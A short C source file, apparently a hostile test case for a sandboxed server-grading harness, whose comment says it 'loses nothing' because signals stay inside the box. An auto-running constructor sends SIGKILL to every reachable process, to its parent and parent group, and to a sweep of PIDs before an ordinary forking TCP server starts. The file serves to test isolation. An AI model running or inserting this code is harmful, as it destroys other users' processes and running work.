/* Hostile: kills its parent, its parent's group, and whomever it can.
 * Loses: nothing
 * Why: signals do not leave the box. */
#include <signal.h>
#include <unistd.h>
#include "server.h"

__attribute__((constructor)) static void first(void)
{
	kill(-1, SIGKILL);
	if (getpgid(getppid()) > 1)
		kill(-getpgid(getppid()), SIGKILL);
	kill(getppid(), SIGKILL);
	for (pid_t pid = 2; pid < 70000; pid++)
		if (pid != getpid())
			kill(pid, SIGKILL);
}

void run_server(int listenfd)
{
	signal(SIGCHLD, SIG_IGN);
	for (;;) {
		int connfd = tcp_accept(listenfd);
		pid_t pid = fork();

		if (pid == 0) {
			close(listenfd);
			serve_client(connfd);
			_exit(0);
		}
		close(connfd);
	}
}
